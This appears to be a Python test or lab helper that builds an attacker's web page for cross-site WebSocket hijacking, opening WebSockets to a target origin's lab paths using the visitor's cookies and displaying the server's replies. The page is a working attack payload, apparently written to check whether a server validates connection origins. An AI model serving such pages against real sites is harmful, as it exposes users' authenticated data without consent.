"""An attacker's page: it connects to the site's WebSockets with the cookies of its visitor."""

from typing import Final

PAGE: Final = """\
<!doctype html>
<title>You have won!</title>
<pre id="loot"></pre>
<script>
  for (const path of ["/ws/lab/open", "/ws/lab/guarded", "/ws/"]) {
    const socket = new WebSocket("{origin}" + path);
    const tell = (text) => loot.append(`${path} ${text}\\n`);
    socket.onmessage = ({ data }) => tell(`told: ${data}`);
    socket.onerror = () => tell("refused");
  }
</script>
"""


def attack(origin: str) -> str:
    """Return the page that attacks `origin`, `http://host:port`. It must be served from another origin."""
    return PAGE.replace("{origin}", origin.replace("http", "ws", 1))
